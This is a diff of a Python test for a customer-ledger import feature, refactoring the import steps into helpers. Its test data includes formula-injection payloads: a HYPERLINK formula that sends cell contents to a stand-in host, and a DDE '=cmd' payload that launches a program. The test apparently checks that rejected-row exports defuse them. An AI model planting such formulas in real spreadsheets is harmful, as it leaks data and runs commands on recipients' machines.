@@ -23,6 +23,7 @@ from app.services.catalogue import VolumeDraft, create_volume
 from app.services.customers import register_customer
 from app.storage.location import DatabaseLocation
 from tests.factories import person, sign_in_as
+from tests.import_helpers import import_rows, mapped_ledger
 from tests.integration.conftest import archivist  # noqa: F401 (fixture)
 
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点此")'
@@ -104,18 +105,8 @@ def test_rejected_rows_workbook_with_formula_cells(
 ) -> None:
     path = tmp_path / "ledger.csv"
     path.write_text("序号,姓名,证件号码\n1,\"=cmd|' /C calc'!A0\",bad-id\x07\n", encoding="utf-8")
-    ledger = imports.load_ledger(path, kind="customers")
-    mapping, _ = imports.guess_columns(
-        session=archivist, kind="customers", ledger=ledger, clock=clock
-    )
-    summary = imports.run_import(
-        session=archivist,
-        kind="customers",
-        ledger=ledger,
-        mapping=mapping,
-        mode=imports.ImportMode.VALID_ROWS,
-        clock=clock,
-    )
+    ledger, mapping = mapped_ledger(archivist, clock, path, "customers")
+    summary = import_rows(archivist, clock, "customers", ledger, mapping)
     data = imports.rejected_rows_xlsx(
         session=archivist, kind="customers", ledger=ledger, outcomes=summary.outcomes, clock=clock
     )
